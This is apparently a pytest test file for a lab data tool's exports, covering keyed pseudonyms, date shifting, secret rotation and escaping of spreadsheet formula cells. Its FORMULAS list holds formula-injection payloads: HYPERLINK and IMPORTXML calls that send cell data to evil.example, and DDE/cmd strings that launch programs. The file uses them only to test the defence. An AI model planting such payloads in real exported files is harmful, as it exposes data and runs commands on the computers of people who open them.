"""Exports: pseudonyms keyed by a secret, nothing identifying left in other fields or the
manifest, and cells a spreadsheet would run written so it does not (re-import restores them)."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
from pathlib import Path

import pytest

from exolab.cli import main
from exolab.io.cells import from_spreadsheet, import_cell, spreadsheet_safe
from exolab.io.export import Filters, run_export
from exolab.io.importer import run_import
from exolab.services.context import Lab
from tests.io.helpers import ISOLATIONS, SAMPLES, SUBJECTS, load
from tests.io.test_properties import fresh_lab


def export(lab: Lab, kind: str = "longitudinal", **kw: object) -> list[dict[str, str]]:
    buf = io.StringIO()
    run_export(lab, kind, None, stdout=buf, **kw)  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(buf.getvalue())))


READOUTS = """isolation_id,analyte,value,unit,assay,run_id,measured_on,replicate,qc
ISO-1,CD63,12.5,pg/mL,elisa,ELISA-20240302,2024-03-05,1,pass
ISO-2,CD63,20,pg/mL,elisa,P001-plate-2024-05-02,2024-05-05,1,pass
ISO-3,CD63,7,pg/mL,elisa,ELISA-20240303,2024-03-06,1,pass
"""


def cohort(lab: Lab, tmp: Path) -> None:
    load(lab, tmp, "subjects", SUBJECTS)
    samples = SAMPLES.replace(",baseline,", ",P001_2024-01-11,", 1)  # an id and date in a label
    load(lab, tmp, "samples", samples, create_locations=True)
    load(lab, tmp, "isolations", ISOLATIONS)
    load(lab, tmp, "readouts", READOUTS)


def test_pseudonyms_without_salt_use_the_database_secret(lab: Lab, tmp_path: Path) -> None:
    cohort(lab, tmp_path)
    a = export(lab, deidentify=True)
    b = export(lab, deidentify=True)
    assert [r["subject_id"] for r in a] == [r["subject_id"] for r in b]  # stable
    codes = {r["subject_id"] for r in a}
    # the attack: hash every candidate id with an empty or no salt
    candidates = {
        hashlib.sha256(f"{salt}{study}{subject}".encode()).hexdigest()[:12]
        for salt in ("",)
        for study in ("S1", "")
        for subject in ("P001", "P002", "P003")
    }
    assert codes and codes.isdisjoint(candidates)
    # rotating the secret (admin) gives new pseudonyms; the audit keeps no secret
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert main(["--db", str(lab.db.url), "--user", "tester", "db", "rotate-secret"]) == 0
    c = export(lab, deidentify=True)
    assert codes.isdisjoint({r["subject_id"] for r in c})
    from sqlalchemy import select

    from exolab.db.models import AuditEvent, LabIdentity

    with lab.read() as tx:
        secret = tx.session.get(LabIdentity, 1).pseudonym_secret  # type: ignore[union-attr]
        new_values = tx.session.scalars(
            select(AuditEvent.new_values).where(AuditEvent.entity == "lab_identity")
        ).one()
    assert secret not in (new_values or "") and "fingerprint" in (new_values or "")


def test_rotate_secret_needs_an_admin(lab: Lab) -> None:
    from exolab.services import users

    with lab.write() as tx:
        users.add_user(tx, "tom", "technician")
    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        code = main(["--db", str(lab.db.url), "--user", "tom", "db", "rotate-secret"])
    assert code == 3


@pytest.mark.parametrize("salt", ["", "short"])
def test_empty_or_short_salt_is_refused(sqlite_url: str, salt: str) -> None:
    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        code = main(
            ["--db", sqlite_url, "--user", "tester", "export", "longitudinal", "--deidentify",
             "--salt", salt]
        )  # fmt: skip
    assert code == 2 and "16 characters" in err.getvalue()


# A fixed key, so the dates each subject moves by are known: under the database's random
# secret a subject's shift may land one real date on another real date of the file.
FIXED_SALT = "a fixed salt for the leak test"


def test_no_real_dates_or_ids_in_other_fields(lab: Lab, tmp_path: Path) -> None:
    cohort(lab, tmp_path)
    plain = export(lab)
    text = json.dumps(export(lab, deidentify=True))  # the database's own secret
    for leak in ("P001", "P002", "P003"):
        assert leak not in text, leak
    rows = export(lab, deidentify=True, salt=FIXED_SALT)
    text = json.dumps(rows)
    for leak in ("P001", "P002", "20240302", "20240303", "2024-05-02", "2024-01-11"):
        assert leak not in text, leak
    assert {r["run_id"] for r in plain} >= {"ELISA-20240302"}
    # free text: blank (the column stays: the longitudinal export's fields are fixed)
    assert {r["group"] for r in rows} == {""} and {r["group"] for r in plain} != {""}
    visits = {r["visit"] for r in rows}
    # the label's date moved by its subject's shift, like collected_at
    shifted = [v for v in visits if v[-10:-6] in ("2023", "2024")]
    assert shifted and all("P001" not in v for v in visits)
    kept = export(lab, deidentify=True, salt=FIXED_SALT, keep_group=True)
    assert {r["group"] for r in kept} == {r["group"] for r in plain}


def test_no_subject_keeps_its_real_dates() -> None:
    """A subject whose digest gives a shift of 0 days is moved anyway: no shift leaves a
    subject's real dates in a de-identified export (subject Z145 gives 0 under this key)."""
    from exolab.io.export import Deidentifier

    deid = Deidentifier(b"k")
    offsets = [deid.subject("S1", f"Z{i}")[1].days for i in range(2000)]
    assert 0 not in offsets
    assert min(offsets) >= -182 and max(offsets) <= 183
    # every other subject keeps the shift it had: exports already sent stay comparable
    assert offsets[145] == 183 and offsets[:145].count(183) == 0


def test_manifest_names_no_subject(lab: Lab, tmp_path: Path) -> None:
    cohort(lab, tmp_path)
    out = tmp_path / "x.csv"
    result = run_export(
        lab,
        "longitudinal",
        str(out),
        filters=Filters(subjects=["P001", "P002"], since=None),
        deidentify=True,
    )
    assert result.manifest is not None
    manifest = result.manifest.read_text()
    assert "P001" not in manifest and "P002" not in manifest
    assert json.loads(manifest)["filters"]["subjects"] == "2 withheld"
    assert "P00" not in out.read_text()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "=cmd|' /C notepad'!'A1'",
    "+1+1",
    "-1+1",
    "@A1",
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]


def test_formula_cells_are_defused_and_round_trip(
    lab: Lab, tmp_path: Path, _templates: dict[str, str], backend: str
) -> None:
    rows = ["study,subject_id,group,notes"]
    for i, f in enumerate(FORMULAS):
        quoted = '"' + f.replace('"', '""') + '"'
        rows.append(f"S1,F{i:02d},{quoted},{quoted}")
    load(lab, tmp_path, "subjects", "\n".join(rows) + "\n")
    first = io.StringIO()
    run_export(lab, "subjects", None, stdout=first)
    raw_cells = [c for r in csv.reader(io.StringIO(first.getvalue())) for c in r]
    for f in FORMULAS:  # 11 of 11 written so a spreadsheet shows them as text
        assert f not in raw_cells and "'" + f in raw_cells, f
    path = tmp_path / "again.csv"
    path.write_text(first.getvalue(), encoding="utf-8", newline="")
    with fresh_lab(backend, _templates, tmp_path) as other:
        run_import(other, "subjects", path, display_name=path.name)
        second = io.StringIO()
        run_export(other, "subjects", None, stdout=second)
        stored = export(other, "subjects")
    assert second.getvalue() == first.getvalue()
    assert sorted(r["notes"] for r in stored) == sorted("'" + f for f in FORMULAS)
    with fresh_lab(backend, _templates, tmp_path) as other:
        run_import(other, "subjects", path, display_name=path.name)
        with other.read() as tx:
            from sqlalchemy import select

            from exolab.db.models import Subject

            notes = set(tx.session.scalars(select(Subject.notes)))
    assert notes == set(FORMULAS)  # re-import restores exactly


@pytest.mark.parametrize(
    "text", ["=x", "\tx", "\rx", "'=x", "''=x", "'abc", "-1.5", "+3", "-", "abc", "", "@"]
)
def test_guard_is_exactly_undone(text: str) -> None:
    assert from_spreadsheet(spreadsheet_safe(text)) == text
    assert import_cell(spreadsheet_safe(text)) == text or text != text.strip()


def test_plain_numbers_are_not_quoted() -> None:
    assert spreadsheet_safe("-0.5") == "-0.5" and spreadsheet_safe("+12") == "+12"
    assert spreadsheet_safe("-2+3") == "'-2+3"
